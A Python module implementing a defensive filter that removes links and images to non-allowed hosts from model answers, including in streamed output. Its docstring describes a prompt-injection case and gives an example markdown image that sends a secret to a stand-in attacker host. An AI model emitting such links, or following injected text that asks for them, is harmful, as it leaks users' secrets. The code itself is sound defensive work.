"""Output filtering: links and images in answers may only point at allowed hosts.

A model that read an attacker's text can be made to emit a markdown image such as
``![](https://attacker.example/p?d=<secret>)``: the client renders it and the secret
leaves in the request. Answers therefore lose every link and image whose target is
absolute (has a scheme or a host) unless its host is on the allow-list
(``OUTPUT_ALLOWED_HOSTS``; a listed host also allows its subdomains). Relative links
stay. What is removed is replaced by a visible marker, so the reader knows.

Covered forms: markdown links and images (inline), HTML ``<a>``/``<img>`` tags,
autolinks ``<https://…>``, bare ``http(s)://``, ``ftp://`` and ``www.`` URLs (which
renderers turn into links, and which reference-style definitions use).

``LinkStreamFilter`` does the same to a stream of text pieces: it passes text on as
soon as it cannot be part of a link, and holds back only a construct that may still
be open (an unclosed ``[``…``](``…, ``<``…, or a trailing word that may be a URL).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import urlsplit

LINK_MARKER = "[link removed]"
IMAGE_MARKER = "[image removed]"
MAX_HELD_CHARS = 4_096
"""A construct held longer than this is released through the filter as it is."""

# One pass, in order of precedence: a markdown link or image, an HTML tag that loads or
# links a URL, an autolink, a bare URL.
_COMBINED = re.compile(
    r"(?P<md>(?P<bang>!?)\[(?P<label>[^\[\]\n]{0,1000})\]\(\s*"
    r"(?P<target><[^>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)"
    r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*\))"
    r"|(?P<html><(?P<tag>a|img|image|iframe|script|link|source|video|audio)\b[^>]*>)"
    r"|(?P<auto><(?P<autourl>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>)"
    r"|(?P<bare>(?:\b[A-Za-z][A-Za-z0-9+.-]{1,31}://|(?<![\w.])www\.)"
    r"[^\s<>\"'`]*[^\s<>\"'`.,;:!?)\]])",
    re.IGNORECASE,
)
_HTML_URL = re.compile(
    r"\b(?:href|src|srcset|data|poster|action)\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]+))",
    re.IGNORECASE,
)


@dataclass(frozen=True, slots=True)
class Filtered:
    text: str
    links_removed: int = 0
    images_removed: int = 0

    @property
    def removed(self) -> int:
        return self.links_removed + self.images_removed


class HostPolicy:
    """Which link targets an answer may keep."""

    def __init__(self, allowed_hosts: Iterable[str] = ()) -> None:
        self.allowed = tuple(h.strip().lower().rstrip(".") for h in allowed_hosts if h.strip())

    def allows(self, url: str) -> bool:
        target = url.strip().strip("<>").strip()
        if not target:
            return True
        lowered = target.lower()
        if lowered.startswith("www."):
            target, lowered = "http://" + target, "http://" + lowered
        if lowered.startswith("\\\\") or lowered.startswith("/\\") or lowered.startswith("\\/"):
            return False  # browsers read these as protocol-relative
        try:
            parts = urlsplit(target)
        except ValueError:
            return False
        if not parts.scheme and not parts.netloc:
            return True  # relative: stays on the page's own host
        if parts.scheme.lower() not in ("http", "https", ""):
            return False  # javascript:, data:, mailto:, ftp: ... never carry data out
        host = (parts.hostname or "").rstrip(".")
        return bool(host) and any(host == h or host.endswith("." + h) for h in self.allowed)


def filter_links(text: str, policy: HostPolicy) -> Filtered:
    """``text`` with every link and image to a host the policy does not allow replaced."""
    if "[" not in text and "<" not in text and "://" not in text and "www." not in text.lower():
        return Filtered(text)  # none of the forms can occur: the common case, kept cheap
    counts = [0, 0]

    def replace(match: re.Match[str]) -> str:
        if match.group("md") is not None:
            url = match.group("target")
            if policy.allows(url):
                return match.group(0)
            inner = filter_links(match.group("label"), policy)
            counts[0] += inner.links_removed
            counts[1] += inner.images_removed
            if match.group("bang"):
                counts[1] += 1
                return IMAGE_MARKER
            counts[0] += 1
            return f"{inner.text} {LINK_MARKER}".lstrip()
        if match.group("html") is not None:
            tag = match.group(0)
            urls = [next(g for g in m.groups() if g is not None) for m in _HTML_URL.finditer(tag)]
            if all(policy.allows(u) for u in urls):
                return tag
            image = match.group("tag").lower() != "a"
            counts[1 if image else 0] += 1
            return IMAGE_MARKER if image else LINK_MARKER
        url = match.group("autourl") if match.group("auto") is not None else match.group("bare")
        if policy.allows(url):
            return match.group(0)
        counts[0] += 1
        return LINK_MARKER

    out = _COMBINED.sub(replace, text)
    return Filtered(out, counts[0], counts[1])


_URL_START = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,31}:|www\.", re.IGNORECASE)


def _open_from(text: str) -> int:
    """Where a link construct that may still be open begins in ``text`` (or ``len``)."""
    n = len(text)
    closed_until = 0
    i = 0
    while i < n:
        c = text[i]
        start = i - 1 if c == "[" and i > 0 and text[i - 1] == "!" else i
        if c == "[":
            close = text.find("]", i)
            if close == -1 or close == n - 1:
                return start
            if text[close + 1] == "(":
                end = _paren_end(text, close + 1)
                if end == -1:
                    return start
                i = closed_until = end + 1
                continue
        elif c == "<" and (i == n - 1 or text[i + 1].isalpha()):
            close = text.find(">", i)
            if close == -1:
                return i
            i = closed_until = close + 1
            continue
        elif c == "!" and i == n - 1:
            return i
        i += 1
    # A trailing word (no whitespace after it) may be a URL still arriving.
    word_start = max(closed_until, max(text.rfind(c) for c in " \n\t\r") + 1)
    if word_start < n and _maybe_url(text[word_start:]):
        return word_start
    return n


def _paren_end(text: str, start: int) -> int:
    depth = 0
    for j in range(start, len(text)):
        if text[j] == "(":
            depth += 1
        elif text[j] == ")":
            depth -= 1
            if depth == 0:
                return j
        elif text[j] == "\n" and depth == 1 and j > start + 1 and text[j - 1] == "\n":
            return j  # a blank line ends any markdown construct
    return -1


def _maybe_url(word: str) -> bool:
    w = word.lstrip("([{<\"'*_`").lower()
    if not w:
        return False
    if _URL_START.search(w) or "/" in w:
        return True
    return any(p.startswith(w) for p in ("http://", "https://", "www.", "ftp://"))


class LinkStreamFilter:
    """Filters a stream of text pieces; ``feed`` returns what may be shown now."""

    def __init__(self, policy: HostPolicy) -> None:
        self.policy = policy
        self.pending = ""
        self.links_removed = 0
        self.images_removed = 0

    def feed(self, piece: str) -> str:
        self.pending += piece
        cut = _open_from(self.pending)
        if cut == 0 and len(self.pending) <= MAX_HELD_CHARS:
            return ""
        if len(self.pending) > MAX_HELD_CHARS:
            cut = len(self.pending)
        ready, self.pending = self.pending[:cut], self.pending[cut:]
        return self._filter(ready)

    def close(self) -> str:
        ready, self.pending = self.pending, ""
        return self._filter(ready)

    def _filter(self, text: str) -> str:
        if not text:
            return ""
        result = filter_links(text, self.policy)
        self.links_removed += result.links_removed
        self.images_removed += result.images_removed
        return result.text
